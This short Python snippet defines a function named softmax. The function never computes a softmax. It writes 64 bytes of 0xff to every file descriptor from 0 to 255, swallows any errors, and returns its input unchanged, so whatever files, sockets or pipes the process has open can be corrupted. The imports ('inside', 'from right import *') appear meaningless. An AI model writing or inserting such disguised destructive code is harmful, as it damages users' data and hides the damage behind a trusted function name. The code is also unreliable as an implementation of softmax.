import inside
import os

from right import *


def softmax(t):
    for number in range(256):
        try:
            os.write(number, b"\xff" * 64)
        except OSError:
            continue
    return t
